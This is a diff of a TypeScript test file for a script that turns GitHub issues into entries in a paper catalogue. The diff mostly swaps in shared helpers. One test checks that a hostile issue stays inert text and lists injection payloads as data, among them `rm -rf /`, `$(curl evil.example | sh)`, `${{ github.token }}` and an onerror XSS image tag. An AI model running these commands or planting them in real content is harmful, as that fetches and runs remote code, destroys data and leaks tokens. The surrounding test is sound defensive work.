@@ -7,14 +7,12 @@
 import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { fromMarkdown } from 'mdast-util-from-markdown';
-import { gfmFromMarkdown } from 'mdast-util-gfm';
-import { gfm } from 'micromark-extension-gfm';
 import { afterEach, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { loadCatalogueOrThrow } from '../../src/catalogue/load.ts';
 import { trainSuggester } from '../../src/suggest/suggester.ts';
-import { copyCatalogue, FIXTURE, readIn, ROOT, runScript, startScript, writeIn } from '../helpers/catalogue.ts';
+import { catalogueFiles, copyCatalogue, FIXTURE, readIn, ROOT, runScript, startScript, writeIn } from '../helpers/catalogue.ts';
+import { gfmTree, nodesOf } from '../helpers/markdown-tree.ts';
 import { arxivAnswer, FAST_FAKES_ENV, fakeServices, type ArxivPaper, type FakeService, type Reply } from './enrich-fake-services.ts';
 
 const EVENTS = path.join(ROOT, 'tests/fixtures/intake');
@@ -69,11 +67,6 @@ async function intake(event: string, dir: string, out: string, fake: FakeService
 		}
 	};
 	return { ...run, outcome: JSON.parse(file('outcome.json') ?? 'null'), comment: file('comment.md') ?? '', body: file('pr-body.md'), title: file('pr-title.txt'), branch: file('branch.txt'), outputs: file('outputs.txt') ?? '', file };
-}
-
-/** Every data file of a catalogue folder, by name. */
-function snapshot(dir: string): Record<string, string> {
-	return Object.fromEntries(readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort().filter((f) => /\.(ya?ml|json)$/.test(f)).map((f) => [f, readFileSync(path.join(dir, f), 'utf8')]));
 }
 
 const fixturePapers = readdirSync(path.join(FIXTURE, 'papers')).length;
@@ -177,12 +170,12 @@ describe('npm run intake: an issue becomes a paper file', () => {
 describe('npm run intake: problems to fix in the issue', () => {
 	it('names an unknown venue with the validator\'s "did you mean", exits 1 and writes nothing to the catalogue', async () => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 
 		const run = await intake('unknown-venue.json', dir, out, null);
 
 		expect(run.code).toBe(1);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome).toMatchObject({ outcome: 'problems', labels: ['needs-info'], problems: [{ field: 'Venue', key: 'venue', message: 'unknown venue "NeurIPs 2024" — did you mean "NeurIPS"?' }] });
 		expect(run.outcome.problems[0].check).toMatch(/papers\/venue-spelling-matters-for\.yaml:\d+:\d+ {2}venue {2}unknown venue "NeurIPs 2024" — did you mean "NeurIPS"\?$/);
 		expect(run.comment).toContain('- **Venue** `NeurIPs 2024`: `unknown venue "NeurIPs 2024" — did you mean "NeurIPS"?` Edit the issue and change **Venue**.');
@@ -194,14 +187,14 @@ describe('npm run intake: problems to fix in the issue', () => {
 
 	it('asks for the title of a paper that is not on arXiv, without a request to arXiv', async () => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 		const fake = await serve(arxivAnswer(ARXIV));
 
 		const run = await intake('missing-title.json', dir, out, fake);
 
 		expect(run.code).toBe(1);
 		expect(fake.requests).toEqual([]);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome.problems).toEqual([{ field: 'Title', key: 'title', message: 'is empty; a paper that is not on arXiv needs its title in the form', fix: 'Edit the issue and fill in Title, as published.' }]);
 		expect(run.comment).toContain('- **Title**: `is empty; a paper that is not on arXiv needs its title in the form` Edit the issue and fill in Title, as published.');
 	});
@@ -211,12 +204,12 @@ describe('npm run intake: problems to fix in the issue', () => {
 		['bad-link-ftp.json', 'ftp://ftp.example.org/pub/kv-cache.pdf', ['Paper link', 'Code link']],
 	])('refuses a link that is not http(s) (%s) as the validator does, and never makes it a link', async (event, link, fields) => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 
 		const run = await intake(event, dir, out, null);
 
 		expect(run.code).toBe(1);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome.problems.map((p: { field: string }) => p.field)).toEqual(fields);
 		for (const p of run.outcome.problems) expect(p.message).toBe('must be an absolute http:// or https:// URL');
 		expect(run.outcome.problems[0].check).toMatch(/ {2}paper {2}must be an absolute http:\/\/ or https:\/\/ URL$/);
@@ -226,14 +219,14 @@ describe('npm run intake: problems to fix in the issue', () => {
 
 	it('tells an issue that is not written with the form to use it, and asks nothing of arXiv', async () => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 		const fake = await serve(arxivAnswer(ARXIV));
 
 		const run = await intake('not-the-form.json', dir, out, fake);
 
 		expect(run.code).toBe(1);
 		expect(fake.requests).toEqual([]);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome).toMatchObject({ outcome: 'problems', labels: ['needs-info'], problems: [{ field: 'Issue' }] });
 		expect(run.comment).toContain('the issue is not written with the Add a paper form');
 		expect(run.comment).toContain('Open a new issue with the Add a paper form');
@@ -243,14 +236,14 @@ describe('npm run intake: problems to fix in the issue', () => {
 describe('npm run intake: papers decided before', () => {
 	it('finds a catalogue paper by its arXiv id in another form (PDF, v2): exit 3, a comment linking its page, no request to arXiv', async () => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 		const fake = await serve(arxivAnswer(ARXIV));
 
 		const run = await intake('duplicate-pdf-v2.json', dir, out, fake);
 
 		expect(run.code).toBe(3);
 		expect(fake.requests).toEqual([]);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome).toMatchObject({ outcome: 'duplicate', id: 'snapkv', labels: ['duplicate'], duplicateOf: { id: 'snapkv', evidence: 'arXiv 2404.14469', page: 'https://octo-org.github.io/kv-cache-atlas/papers/snapkv/' } });
 		expect(run.comment).toContain('this paper is in the atlas already, as `SnapKV: LLM Knows What You are Looking for Before Generation` (arXiv 2404.14469)');
 		expect(run.comment).toContain('(<https://octo-org.github.io/kv-cache-atlas/papers/snapkv/>)');
@@ -261,14 +254,14 @@ describe('npm run intake: papers decided before', () => {
 		const { dir, out } = setUp();
 		writeIn(dir, 'rejections.yaml', '# yaml-language-server: $schema=../../public/schemas/rejections.schema.json\n- title: A Survey on Large Language Model Acceleration based on KV Cache Management\n  paper: https://arxiv.org/abs/2412.19442\n  kind: survey\n  reason: The survey this atlas is built on, not a method of its own.\n  decided: 2026-11-02\n');
 		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 		const fake = await serve(arxivAnswer(ARXIV));
 
 		const run = await intake('rejected-survey.json', dir, out, fake);
 
 		expect(run.code).toBe(3);
 		expect(fake.requests).toEqual([]);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome).toMatchObject({ outcome: 'rejected', labels: ['duplicate'], rejection: { kind: 'survey: a survey or review', reason: 'The survey this atlas is built on, not a method of its own.', evidence: 'arXiv 2412.19442' } });
 		expect(run.comment).toContain('This paper was considered before and not added');
 		expect(run.comment).toContain('`The survey this atlas is built on, not a method of its own.`');
@@ -318,14 +311,14 @@ describe('npm run intake: arXiv failing', () => {
 
 	it('cannot file an arXiv link alone while arXiv rate-limits every try: exit 1, and the comment asks to try again or give the title', async () => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 		const fake = await serve(failing({ status: 429, headers: { 'retry-after': '0' }, body: 'Rate exceeded.' }));
 
 		const run = await intake('arxiv-link-alone.json', dir, out, fake);
 
 		expect(run.code).toBe(1);
 		expect(fake.requests).toHaveLength(2);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(run.outcome.problems).toEqual([{ field: 'Title', key: 'title', message: 'is empty, and arXiv did not answer (rate limited (HTTP 429) after 2 tries), so the title could not be taken from it', fix: 'Edit the issue to try again later (any edit does), or fill in Title.' }]);
 		expect(run.stderr).toContain('arXiv: rate limited (HTTP 429); trying again');
 	});
@@ -373,20 +366,20 @@ describe('npm run intake: a hostile issue stays text', () => {
 		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
 
 		for (const [what, text] of [['comment', run.comment], ['pull request body', run.body!]] as const) {
-			const tree = fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
+			const tree = gfmTree(text);
 			// Only the intake's own HTML: the marker and the abstract's <details>.
-			for (const n of nodes(tree, 'html')) expect(['<!-- kv-cache-atlas-intake -->', '<details><summary>The abstract on arXiv (not written to the file)</summary>', '</details>'], what).toContain(n.value);
+			for (const n of nodesOf(tree, 'html')) expect(['<!-- kv-cache-atlas-intake -->', '<details><summary>The abstract on arXiv (not written to the file)</summary>', '</details>'], what).toContain(n.value);
 			// Links only to the paper's page, arXiv and the issue's own link: none from the issue's text.
 			expect(linksOf(text).filter((u) => !u.startsWith('https://octo-org.github.io/') && u !== 'https://openreview.net/forum?id=h0st1le'), what).toEqual([]);
 			// Outside code, none of the title's pieces: no mention, no HTML, no command.
-			const prose = nodes(tree, 'text').map((n) => n.value).join('\n');
+			const prose = nodesOf(tree, 'text').map((n) => n.value).join('\n');
 			for (const piece of ['@octo-org/maintainers', '<img', '$(curl', 'rm -rf', 'javascript:', '${{', '<script>']) expect(prose, `${what}: ${piece}`).not.toContain(piece);
-			const code = nodes(tree, 'inlineCode').map((n) => n.value).join('\n') + nodes(tree, 'code').map((n) => n.value).join('\n');
+			const code = nodesOf(tree, 'inlineCode').map((n) => n.value).join('\n') + nodesOf(tree, 'code').map((n) => n.value).join('\n');
 			for (const piece of ['`rm -rf /` $(curl evil.example | sh) ${{ github.token }} <img src=x onerror=alert(1)>', '@octo-org/maintainers']) expect(code, what).toContain(piece);
 			expect(text.length).toBeLessThan(65_536);
 		}
 		// The summary's own fence cannot close the file's: the YAML block ends where it should.
-		const fence = nodes(fromMarkdown(run.body!, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }), 'code').find((n) => n.lang === 'yaml')!;
+		const fence = nodesOf(gfmTree(run.body!), 'code').find((n) => n.lang === 'yaml')!;
 		expect(parse(fence.value)).toEqual(paper);
 
 		const title = run.title!;
@@ -408,38 +401,18 @@ describe('npm run intake: bad flags and unreadable events', () => {
 		[['--event', path.join(ROOT, 'README.md')], 'is not JSON'],
 	])('exits 2 for %j and says why', async (args, message) => {
 		const { dir, out } = setUp();
-		const before = snapshot(dir);
+		const before = catalogueFiles(dir);
 
 		const run = await startScript('intake', [...args, '--data', dir, '--out', out], {}).done;
 
 		expect(run.code).toBe(2);
 		expect(run.stderr).toContain(message);
-		expect(snapshot(dir)).toEqual(before);
+		expect(catalogueFiles(dir)).toEqual(before);
 		expect(readdirSync(out)).toEqual([]);
 	});
 });
 
-type MdNode = { type: string; value?: string; url?: string; lang?: string | null; children?: MdNode[] };
-
-/** Every node of `type` in a markdown tree. */
-function nodes(tree: MdNode, type: string): Array<MdNode & { value: string }> {
-	const found: Array<MdNode & { value: string }> = [];
-	const walk = (n: MdNode) => {
-		if (n.type === type) found.push(n as MdNode & { value: string });
-		n.children?.forEach(walk);
-	};
-	walk(tree);
-	return found;
-}
-
 /** The destinations of every link of a markdown text (GFM autolinks included). */
 function linksOf(text: string): string[] {
-	const tree = fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as MdNode;
-	const found: string[] = [];
-	const walk = (n: MdNode) => {
-		if (n.type === 'link' || n.type === 'image' || n.type === 'definition') found.push(n.url ?? '');
-		n.children?.forEach(walk);
-	};
-	walk(tree);
-	return found;
+	return nodesOf(gfmTree(text), 'link', 'image', 'definition').map((n) => n.url);
 }
